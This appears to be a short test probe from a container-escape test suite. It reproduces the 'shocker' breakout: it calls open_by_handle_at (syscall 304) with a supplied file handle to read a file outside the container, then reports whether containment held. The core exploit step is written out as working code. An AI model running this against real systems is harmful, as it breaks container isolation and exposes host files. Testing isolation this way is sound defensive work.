# Opens a file outside by its handle, without a path (shocker).
# control: root-only
# needs: outside
from escape import *
handle = (ctypes.c_ubyte * 136).from_buffer_copy(bytes.fromhex(E["OUTSIDE_HANDLE"]))
fd = syscall(304, os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
if fd < 0:
    held(name(fd))
token_in(os.read(fd, 4096), "a handle")
